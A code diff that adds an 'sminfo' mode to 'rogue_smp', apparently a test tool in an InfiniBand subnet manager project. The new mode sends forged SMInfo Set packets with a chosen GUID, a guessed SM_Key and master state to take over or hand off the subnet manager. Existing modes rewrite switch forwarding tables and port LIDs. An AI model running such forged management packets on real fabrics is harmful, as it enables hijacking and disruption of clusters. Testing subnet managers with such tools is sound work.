@@ -6,6 +6,12 @@
  *                                     switch at LID becomes PORT
  *   rogue_smp lid LID PORT NEWLID     port PORT of the node at LID gets
  *                                     LID NEWLID (PortInfo Get, then Set)
+ *   rogue_smp sminfo LID MOD GUID [KEY [STATE [PRIO]]]
+ *                                     SMInfo Set with AttributeModifier MOD
+ *                                     (1 HANDOVER ... 5 DISCOVER) to the SM
+ *                                     at LID, its payload forged: GUID,
+ *                                     SM_Key KEY (default 1), SMState
+ *                                     STATE (default 3, master), priority
  *
  * Both are LID-routed SMPs (class 0x01) through ibsmd's own engine and
  * transport, sent from wherever the tool is attached (SIM_HOST under the
@@ -104,6 +110,22 @@ static int set_lid(struct mad_engine *e, const struct mad_transport *tp, char **
 	return run(e, tp, &r, NULL);
 }
 
+static int set_sminfo(struct mad_engine *e, const struct mad_transport *tp, int ac, char **av)
+{
+	struct smp_sm_info si = { 0 };
+	struct mad_req r;
+
+	lid_req(&r, MAD_METHOD_SET, SMP_ATTR_SM_INFO, (uint32_t)strtoul(av[1], NULL, 0),
+		(uint16_t)strtoul(av[0], NULL, 0));
+	si.guid = strtoull(av[2], NULL, 0);
+	si.sm_key = ac > 3 ? strtoull(av[3], NULL, 0) : 1;
+	si.sm_state = (uint8_t)(ac > 4 ? strtoul(av[4], NULL, 0) : 3);
+	si.priority = (uint8_t)(ac > 5 ? strtoul(av[5], NULL, 0) : 0);
+	si.act_count = 1;
+	smp_sm_info_encode(&si, r.data, sizeof(r.data));
+	return run(e, tp, &r, NULL);
+}
+
 int main(int argc, char **argv)
 {
 	struct mad_transport tp;
@@ -112,8 +134,10 @@ int main(int argc, char **argv)
 	char err[256];
 	int rc;
 
-	if (argc < 5 || (strcmp(argv[1], "lft") && strcmp(argv[1], "lid"))) {
-		fprintf(stderr, "usage: rogue_smp lft LID BLOCK PORT | lid LID PORT NEWLID\n");
+	if (argc < 5 || (strcmp(argv[1], "lft") && strcmp(argv[1], "lid") &&
+			 strcmp(argv[1], "sminfo"))) {
+		fprintf(stderr, "usage: rogue_smp lft LID BLOCK PORT | lid LID PORT NEWLID | "
+			"sminfo LID MOD GUID [KEY [STATE [PRIO]]]\n");
 		return 2;
 	}
 	if (mad_umad_open(NULL, 0, 0, 0, &tp, &info, err, sizeof(err)) < 0) {
@@ -121,7 +145,10 @@ int main(int argc, char **argv)
 		return 1;
 	}
 	e = mad_engine_new(&tp, NULL);
-	rc = !strcmp(argv[1], "lft") ? set_lft(e, &tp, argv + 2) : set_lid(e, &tp, argv + 2);
+	if (!strcmp(argv[1], "sminfo"))
+		rc = set_sminfo(e, &tp, argc - 2, argv + 2);
+	else
+		rc = !strcmp(argv[1], "lft") ? set_lft(e, &tp, argv + 2) : set_lid(e, &tp, argv + 2);
 	mad_engine_free(e);
 	tp.close(tp.ctx);
 	return rc == -3 ? 3 : rc < 0 ? 1 : 0;
